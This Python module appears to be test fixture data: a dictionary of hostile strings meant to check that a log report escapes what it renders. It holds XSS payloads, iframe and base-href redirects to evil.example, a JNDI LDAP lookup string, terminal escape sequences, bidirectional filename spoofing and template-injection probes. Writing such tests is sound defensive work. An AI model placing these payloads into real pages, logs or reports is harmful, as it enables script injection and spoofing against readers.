"""Strings that somebody may have written into a log in the hope that a report obeys them."""

ATTACKS = {
    "script": "<script>document.title='owned'</script>",
    "break_out": "</code></pre></bdi></td></table><iframe src=//evil.example></iframe>",
    "attribute": '" onmouseover="alert(1)" x=\'y\' autofocus onfocus=alert(2)>',
    "svg": "</title></desc></text></svg><svg/onload=alert(1)>",
    "style": "</style><style>*{display:none}</style><base href=//evil.example/>",
    "comment": "<!-- <![CDATA[ <?php --!> ]]> -->",
    "entities": "&lt;b&gt; &amp;#60;i&#62; &#x3c;u>",
    "fence": "`````\n# heading\n<b>bold</b>\n```mermaid\ngraph TD; A-->B\n",
    "table": "| a | b |\n|---|---|\n| c | d |\n\n***\n",
    "links": "[go](javascript:alert(1)) ![i](//evil.it/i.png) <https://evil.it> www.evil.it",
    "mentions": "@everyone #17 GH-17 a@b.example 0123456789abcdef0123456789abcdef01234567",
    "terminal": "\x1b[31mred\x1b[0m\x1b]0;title\x07\x1b]8;;//evil\x1b\\x\x1b]8;;\x1b\\"
    "\x9b2J\x1bc\x07\x08\r",
    "bidi": "a\u202egnp.exe\u202c\u2066b\u2069\u200b\u200d\ufeff\u00ad\u2028\u2029\U000e0041\u3164",
    "mermaid": '"]; click A "javascript:alert(1)" %%{init: {}}%% end subgraph x --> [("',
    "template": "{{ 7 * 7 }}{% raw %}{# x #} ${jndi:ldap://evil} %s %(a)s \\",
    "bytes": "caf\udce9 \ud800 \x00 \ufffe",
    "long": "A" * 5000 + " " + "B" * 5000,
    "formula": "=1+1\t- item\n+ item\n1. item\n    code",
}
